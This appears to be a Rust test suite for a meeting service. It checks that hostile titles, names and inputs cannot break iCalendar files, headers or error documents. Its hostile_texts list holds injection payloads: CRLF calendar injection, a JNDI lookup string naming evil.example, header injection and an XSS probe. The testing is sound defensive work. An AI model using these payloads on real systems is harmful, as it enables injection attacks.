//! What people write never changes the structure of a file, a problem document
//! or a log line (XC-3, XC-9, CM-9).

mod logs;
mod sessions;

use icalendar::parser::{Component, read_calendar, unfold};
use it::api::Answer;
use it::office::Office;
use it::requests::{id_of, violations};
use serde_json::{Value, json};

/// Texts that have broken somebody's calendar, header or log before.
fn hostile_texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "a\r\nATTENDEE;CN=Eve:mailto:eve@evil.example",
        "a\rATTENDEE;CN=Eve:mailto:eve@evil.example",
        "a\nEND:VEVENT\nEND:VCALENDAR\nBEGIN:VCALENDAR",
        "a\u{85}X-EVIL:1\u{2028}X-EVIL:2\u{2029}X-EVIL:3\u{b}\u{c}x",
        "nul\0inside and \u{1b}[31mred\u{7f}",
        "\"quoted\";ROLE=CHAIR:mailto:eve@evil.example",
        "commas, semicolons; colons: back\\slashes \\n \\, ^n ^' ^^",
        "{\"level\":\"ERROR\"}\n{\"outcome\":\"failed\"}",
        "%0d%0aX-Evil: 1 %s ${jndi:ldap://evil.example}",
        "👩‍👩‍👧‍👦🏳️‍🌈 emoji 🇩🇪",
        "\u{202e}txt.exe\u{202c} שלום عليكم \u{200f}",
        "<script>alert(1)</script> {{title}} {{{title}}}",
        "e\u{301}\u{301}\u{301}\u{301} \u{feff}bom \u{fffd} \u{10ffff}",
        " leading and trailing \t",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push("🧨".repeat(255));
    texts.push("\r\n\"".repeat(84) + "x");
    texts
}

/// A text as a file can carry it: one kind of newline, no other controls.
fn carried(text: &str) -> String {
    let text = text
        .replace("\r\n", "\n")
        .replace(['\r', '\u{2028}', '\u{2029}'], "\n");
    text.chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\t'))
        .collect()
}

/// RFC 6868, which the crate `icalendar` leaves to its user.
fn parameter(text: &str) -> String {
    carried(text)
        .replace('^', "^^")
        .replace('\n', "^n")
        .replace('"', "^'")
}

/// Names of components and properties, in order; attendees counted by theirs.
fn structure(component: &Component<'_>) -> Vec<String> {
    let names = component
        .properties
        .iter()
        .map(|property| property.name.as_ref().to_owned());
    let inner = component.components.iter().flat_map(|inner| {
        let mut names = structure(inner);
        names.insert(0, format!("BEGIN:{}", inner.name));
        names
    });
    names.chain(inner).collect()
}

async fn file_of(office: &Office, id: &str) -> Answer {
    let path = format!("/api/v1/orgs/{}/meetings/{id}/ics", office.org);
    office.process.ics(office.event("GET", &path, None)).await
}

/// Raw lines: CRLF only, at most 75 octets, no controls.
fn check_lines(file: &str) {
    for line in file
        .strip_suffix("\r\n")
        .expect("a final CRLF")
        .split("\r\n")
    {
        assert!(line.len() <= 75, "{} octets: {line:?}", line.len());
        assert!(
            !line.chars().any(|c| c.is_control() && c != '\t'),
            "{line:?}"
        );
    }
}

async fn plan_with(office: &Office, text: &str, user: &str) -> Value {
    let place: String = text.chars().take(500).collect();
    let fields = json!({ "title": text, "description": format!("{text}{text}"), "location": place, "provider": "ics",
        "attendees": [{ "user_id": user, "role": "required" }, { "email": "x@example.org", "name": text, "role": "optional" }] });
    let made = office.plan("c", &fields).await;
    for name in ["title", "description", "location"] {
        assert_eq!(made[name], fields[name], "text is kept as it was sent");
    }
    assert_eq!(made["attendees"][1], fields["attendees"][1]);
    made
}

/// CM-9: hostile titles, names, descriptions and locations are values of a
/// file, whatever they say.
#[tokio::test]
async fn hostile_texts_never_change_a_files_structure() {
    let office = Office::open().await;
    office
        .put_user(
            "plain",
            &json!({ "email": "plain@example.org", "name": "Plain" }),
        )
        .await
        .expect(201);
    let id = id_of(&plan_with(&office, "Plain", "plain").await, "meeting_id");
    let plain = String::from_utf8(file_of(&office, &id).await.body).unwrap();
    let expected = structure(&read_calendar(&unfold(&plain)).unwrap().components[0]);
    let everything = structure_of(&plain);
    assert!(
        expected.len() > 3 && everything.iter().filter(|name| *name == "ATTENDEE").count() == 2
    );

    for (n, text) in hostile_texts().into_iter().enumerate() {
        let user = format!("u-{n}");
        let entry = json!({ "email": format!("u{n}@example.org"), "name": text });
        assert_eq!(
            office.put_user(&user, &entry).await.expect(201)["name"],
            text
        );
        let id = id_of(&plan_with(&office, &text, &user).await, "meeting_id");
        let answer = file_of(&office, &id).await;
        assert_eq!(answer.status, 200);
        let disposition = answer
            .header("content-disposition")
            .expect("a visible ASCII header");
        assert!(
            disposition.starts_with("attachment; filename=\"")
                && disposition.matches('"').count() == 2,
            "{disposition}"
        );
        assert!(
            !disposition.contains("evil.example/") && !disposition.contains('\\'),
            "{disposition}"
        );
        let file = String::from_utf8(answer.body).expect("UTF-8");
        check_lines(&file);
        assert_eq!(structure_of(&file), everything, "{text:?}\n{file}");

        let unfolded = unfold(&file);
        let calendar = read_calendar(&unfolded).unwrap();
        let event = calendar
            .components
            .iter()
            .find(|component| component.name.as_ref() == "VEVENT")
            .unwrap();
        let value = |name: &str| {
            event
                .find_prop(name)
                .map(|property| property.val.as_ref().to_owned())
        };
        assert_eq!(value("SUMMARY"), Some(carried(&text)));
        assert_eq!(
            value("DESCRIPTION"),
            Some(carried(&format!("{text}{text}")))
        );
        let people: Vec<_> = event
            .properties
            .iter()
            .filter(|property| property.name.as_ref() == "ATTENDEE")
            .collect();
        for (person, address) in people.iter().zip([
            format!("mailto:u{n}@example.org"),
            "mailto:x@example.org".to_owned(),
        ]) {
            assert_eq!(person.val.as_ref(), address);
            let name = person
                .params
                .iter()
                .find(|param| param.key.as_ref() == "CN")
                .unwrap();
            assert_eq!(
                name.val.as_ref().map(|value| value.as_ref().to_owned()),
                Some(parameter(&text))
            );
        }
    }
}

fn structure_of(file: &str) -> Vec<String> {
    let unfolded = unfold(file);
    let calendar = read_calendar(&unfolded).unwrap_or_else(|error| panic!("{error}\n{file}"));
    let inner = calendar.components.iter().flat_map(|component| {
        let mut names = structure(component);
        names.insert(0, format!("BEGIN:{}", component.name));
        names
    });
    calendar
        .properties
        .iter()
        .map(|property| property.name.as_ref().to_owned())
        .chain(inner)
        .collect()
}

/// CM-9: 10 KB and more of description go into a file whole; what is too long
/// elsewhere is refused with its place.
#[tokio::test]
async fn long_texts_are_carried_whole_or_refused() {
    let office = Office::open().await;
    for text in [
        "x".repeat(10_240),
        "🧨".repeat(2_560),
        "\r\n,;\\\"".repeat(1_700),
        "word ".repeat(2_048),
    ] {
        let id = id_of(
            &office.plan("c", &json!({ "description": text })).await,
            "meeting_id",
        );
        let file = String::from_utf8(file_of(&office, &id).await.body).unwrap();
        check_lines(&file);
        let unfolded = unfold(&file);
        let calendar = read_calendar(&unfolded).unwrap();
        let event = calendar
            .components
            .iter()
            .find(|component| component.name.as_ref() == "VEVENT")
            .unwrap();
        assert_eq!(
            event.find_prop("DESCRIPTION").unwrap().val.as_ref(),
            carried(&text)
        );
        let refused = office
            .try_plan("c", &json!({ "title": text, "location": text, "attendees": [{ "email": "x@example.org", "name": text }] }))
            .await;
        let pointers: Vec<_> = violations(&refused)
            .into_iter()
            .map(|(pointer, _)| pointer)
            .collect();
        assert_eq!(pointers, ["/title", "/location", "/attendees/0/name"]);
        assert!(
            refused.body.len() < 4_096,
            "a refusal does not send the text back"
        );
        assert_eq!(
            violations(&office.put_user("u", &json!({ "name": text })).await)[0].0,
            "/name"
        );
    }
}

/// What a problem document may have (RFC 9457, XC-3).
const MEMBERS: [&str; 9] = [
    "type",
    "title",
    "status",
    "detail",
    "instance",
    "code",
    "request_id",
    "errors",
    "missing_keys",
];

fn check_problem(answer: &Answer) {
    assert!(
        (400..500).contains(&answer.status),
        "{}: {}",
        answer.status,
        String::from_utf8_lossy(&answer.body)
    );
    assert_eq!(
        answer.header("content-type"),
        Some("application/problem+json")
    );
    let problem = answer.json();
    for (name, value) in problem.as_object().expect("an object") {
        assert!(MEMBERS.contains(&name.as_str()), "{name} in {problem}");
        assert!(
            value.is_string() || name == "status" || name == "errors",
            "{problem}"
        );
    }
    for error in problem["errors"].as_array().into_iter().flatten() {
        let names: Vec<_> = error
            .as_object()
            .unwrap()
            .keys()
            .map(String::as_str)
            .collect();
        assert_eq!(names, ["code", "detail", "pointer"]);
    }
    assert!(answer.headers.get("x-evil").is_none());
}

fn percent_encoded(text: &str) -> String {
    use std::fmt::Write;
    text.bytes().fold(String::new(), |mut encoded, byte| {
        let _ = write!(encoded, "%{byte:02X}");
        encoded
    })
}

/// XC-3: hostile addresses, field names, ids and queries are refused in one
/// well-formed problem document.
#[tokio::test]
async fn hostile_input_never_changes_a_problem_document() {
    let office = Office::open().await;
    let made = office.plan("c", &json!({})).await;
    let path = format!("/meetings/{}", id_of(&made, "meeting_id"));
    for text in hostile_texts() {
        let address = format!("{text}@example.org");
        let mut named = serde_json::Map::new();
        named.insert(text.clone(), json!(1));
        check_problem(&office.try_plan("c", &Value::Object(named.clone())).await);
        check_problem(
            &office
                .call("PATCH", &path, Some(&Value::Object(named)))
                .await,
        );
        for fields in [
            json!({ "attendees": [{ "email": address, "name": "X" }] }),
            json!({ "timezone": text }),
            json!({ "frequency": text }),
            json!({ "start": text }),
            json!({ "join_url": format!("https://example.org/{text}") }),
            json!({ "attendees": [{ "user_id": text }] }),
            json!({ "control_schedule_id": text }),
            json!({ "attendees": [{ "email": "x@example.org", "name": "X", "role": text }] }),
            json!({ "duration_minutes": text }),
        ] {
            check_problem(&office.try_plan("c", &fields).await);
        }
        check_problem(&office.put_user("u", &json!({ "email": address })).await);
        let encoded = percent_encoded(&text);
        check_problem(
            &office
                .call("GET", &format!("/meetings/{encoded}"), None)
                .await,
        );
        check_problem(&office.try_plan(&encoded, &json!({})).await);
        check_problem(
            &office
                .call("GET", &format!("/meetings?due_before={encoded}"), None)
                .await,
        );
        check_problem(
            &office
                .call("GET", &format!("/meetings?cursor={encoded}"), None)
                .await,
        );
        check_problem(&office.send("GET", &format!("/{encoded}"), None).await);
        let signed = it::gateway::Event::new("GET", &format!("/ics/{encoded}"));
        check_problem(&office.process.ics(signed).await);
    }
    let read = office.call("GET", &path, None).await.expect(200);
    assert_eq!(read["version"], 1, "nothing of it was taken");
}
